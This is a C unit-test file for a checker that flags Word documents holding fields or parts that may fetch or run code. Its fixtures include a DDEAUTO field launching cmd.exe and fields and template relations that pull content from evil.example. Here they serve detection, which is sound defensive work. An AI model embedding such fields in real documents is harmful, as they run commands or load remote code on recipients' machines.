/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Which documents are sent on in the council's name, and which are only read. */
#include "check.h"

#include "read/docx.h"
#include "wordfile.h"
#include "write/docx_harm.h"

#define MARK(type)   "<w:r><w:fldChar w:fldCharType='" type "'/></w:r>"
#define CODE(words)  "<w:r><w:instrText xml:space='preserve'>" words "</w:instrText></w:r>"
#define FIELD(codes) W_P(MARK("begin") codes MARK("separate") W_RUN("x") MARK("end"))
#define SIMPLE(code) W_P("<w:fldSimple w:instr='" code "'>" W_RUN("x") "</w:fldSimple>")
#define W_NS	     "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
#define RELATIONS(type, rest)                                                                      \
	"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"     \
	"<Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/"     \
	"relationships/" type "' " rest "/></Relationships>"

static const struct wordfile_part none[] = {{NULL, NULL, NULL, NULL}};

/* The reason, or "" if it may be sent on. */
static const char *harm_of(const char *body, const struct wordfile_part *parts)
{
	struct docx docx = {0};
	struct err e = {0};
	size_t size;
	const char *bytes = wordfile_make(&arena, body, parts, &size);
	int status;

	if (docx_open(&docx, &arena, bytes, size, &e) < 0)
		fail_msg("%s", e.text);
	status = docx_harm_check(&docx, &arena, &e);
	docx_close(&docx);
	assert_int_equal(status, *e.text ? -1 : 0);
	assert_int_equal(e.kind, *e.text ? ERR_INPUT : ERR_NONE);
	return arena_strdup(&arena, e.text);
}

static void fields_that_only_show_are_sent_on(void **state)
{
	static const char *const bodies[] = {
	    W_LINE("x"),
	    FIELD(CODE(" FORMTEXT ")),
	    FIELD(CODE("FORMCHECKBOX")),
	    FIELD(CODE(" FORM") CODE("DROPDOWN ")),
	    FIELD(CODE(" hyperlink &quot;https://council.example/&quot; \\o &quot;DDEAUTO&quot;")),
	    FIELD(CODE(" = 1 + 1 ")),
	    FIELD(CODE("")),
	    W_P(MARK("begin") MARK("end")),
	    SIMPLE(" DATE \\@ &quot;d MMMM yyyy&quot; "),
	    SIMPLE("PAGE"),
	    /* A field in another's result: an entry of a list of contents. */
	    W_P(MARK("begin") CODE("TOC \\o") MARK("separate") MARK("begin") CODE(" PAGEREF a ")
		    MARK("separate") W_RUN("1") MARK("end") MARK("end")),
	};
	size_t i;

	(void)state;
	for (i = 0; i < COUNT_OF(bodies); i++)
		assert_string_equal(harm_of(bodies[i], none), "");
}

static void fields_that_may_fetch_or_run_are_not(void **state)
{
	static const char *const bodies[] = {
	    FIELD(CODE(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ")),
	    FIELD(CODE("dde excel")),
	    FIELD(CODE(" D") CODE("D") CODE("E x")),
	    FIELD(CODE(" INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d ")),
	    FIELD(CODE("\tINCLUDETEXT &quot;//evil.example/a&quot;")),
	    FIELD(CODE("LINK Excel.Sheet.8 a")),
	    FIELD(CODE("MACROBUTTON Go Go")),
	    FIELD(CODE("FORMTEXTX")),
	    SIMPLE(" DDEAUTO cmd "),
	    SIMPLE("&#9;DATABASE \\d a"),
	    /* { { QUOTE 68 68 69 } }: what is in a code makes a code. */
	    W_P(MARK("begin") MARK("begin") CODE(" FORMTEXT ") MARK("separate") W_RUN("DDE")
		    MARK("end") CODE(" x ") MARK("separate") MARK("end")),
	    /* With no result yet, and over two paragraphs. */
	    W_P(MARK("begin") CODE(" DDE a ") MARK("end")),
	    W_P(MARK("begin") CODE(" D")) W_P(CODE("DE a ") MARK("separate") MARK("end")),
	    W_P(CODE(" DDE a ")),
	    /* Shown or not: a deletion can be taken back. */
	    W_P(MARK("begin") "<w:del w:id='1' w:author='a'><w:r><w:delInstrText>DDE a"
			      "</w:delInstrText></w:r></w:del>" MARK("end")),
	    W_TABLE(W_ROW(W_CELL(FIELD(CODE("DDE a"))))),
	};
	size_t i;

	(void)state;
	for (i = 0; i < COUNT_OF(bodies); i++)
		assert_string_equal(harm_of(bodies[i], none),
				    "It has a field that may fetch or run something.");
}

static void fields_nest_only_so_deep(void **state)
{
	struct str s;
	size_t i;

	(void)state;
	str_init(&s, &arena, STR_UNBOUNDED);
	for (i = 0; i < 17; i++)
		str_add(&s, W_P(MARK("begin") CODE("TOC") MARK("separate")));
	assert_string_not_equal(harm_of(str_text(&s), none), "");
}

static void other_files_in_it_are_not_sent_on(void **state)
{
	static const struct {
		const char *body;
		struct wordfile_part parts[2];
	} rows[] = {
	    {W_LINE("x"), {{"word/vbaProject.bin", "program", NULL, NULL}}},
	    {W_LINE("x"), {{"word/embeddings/a.docx", "PK", NULL, NULL}}},
	    {W_LINE("x"), {{"word/activeX/activeX1.xml", "<x/>", NULL, NULL}}},
	    {W_LINE("x") "<w:altChunk r:id='rId9'/>", {{NULL, NULL, NULL, NULL}}},
	    {W_LINE("x"),
	     {{"word/_rels/a.rels", RELATIONS("aFChunk", "Target='a.html'"), NULL, NULL}}},
	    {W_LINE("x"),
	     {{"word/_rels/a.rels", RELATIONS("oleObject", "Target='a.xml'"), NULL, NULL}}},
	    {W_LINE("x"),
	     {{"word/_rels/settings.xml.rels",
	       RELATIONS("attachedTemplate",
			 "Target='https://evil.example/t.dotm' TargetMode='External'"),
	       NULL, NULL}}},
	    {W_LINE("x"),
	     {{"word/_rels/a.RELS",
	       RELATIONS("image", "Target='https://evil.example/a.png' TargetMode='external'"),
	       NULL, NULL}}},
	    {W_LINE("x"),
	     {{"word/settings.xml", "<w:settings " W_NS "><w:mailMerge/></w:settings>", "settings",
	       NULL}}},
	    /* Parts other than the main one, whatever they are called. */
	    {W_LINE("x"),
	     {{"word/header1.xml", "<w:hdr " W_NS ">" SIMPLE("DDE a") "</w:hdr>", "header", NULL}}},
	    {W_LINE("x"),
	     {{"word/media/image1.png", "\xEF\xBB\xBF <w:ftr " W_NS ">" SIMPLE("DDE a") "</w:ftr>",
	       "footer", NULL}}},
	    {W_LINE("x"), {{"word/footer1.xml", "<w:ftr", "footer", NULL}}},
	    {W_LINE("x"), {{"word/footer1.xml", "<!DOCTYPE x []><x/>", "footer", NULL}}},
	};
	struct wordfile_part parts[2];
	size_t i;

	(void)state;
	for (i = 0; i < COUNT_OF(rows); i++) {
		parts[0] = rows[i].parts[0];
		parts[1] = none[0];
		if (!*harm_of(rows[i].body, parts))
			fail_msg("row %zu is sent on", i);
	}
}

static void links_and_pictures_in_it_are_sent_on(void **state)
{
	static const struct wordfile_part parts[] = {
	    {"word/media/image1.png", "\x89PNG\r\n\x1A\n", "image", NULL},
	    {"word/comments.xml", "<w:comments " W_NS ">" W_LINE("DDE a") "</w:comments>",
	     "comments", NULL},
	    {NULL, NULL, "hyperlink", "https://council.example/"},
	    {NULL, NULL, NULL, NULL}};

	(void)state;
	assert_string_equal(harm_of(W_LINE("DDEAUTO x"), parts), "");
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
	    TEST(fields_that_only_show_are_sent_on),
	    TEST(fields_that_may_fetch_or_run_are_not),
	    TEST(fields_nest_only_so_deep),
	    TEST(other_files_in_it_are_not_sent_on),
	    TEST(links_and_pictures_in_it_are_sent_on),
	};

	docx_warm_up();
	return cmocka_run_group_tests(tests, NULL, NULL);
}
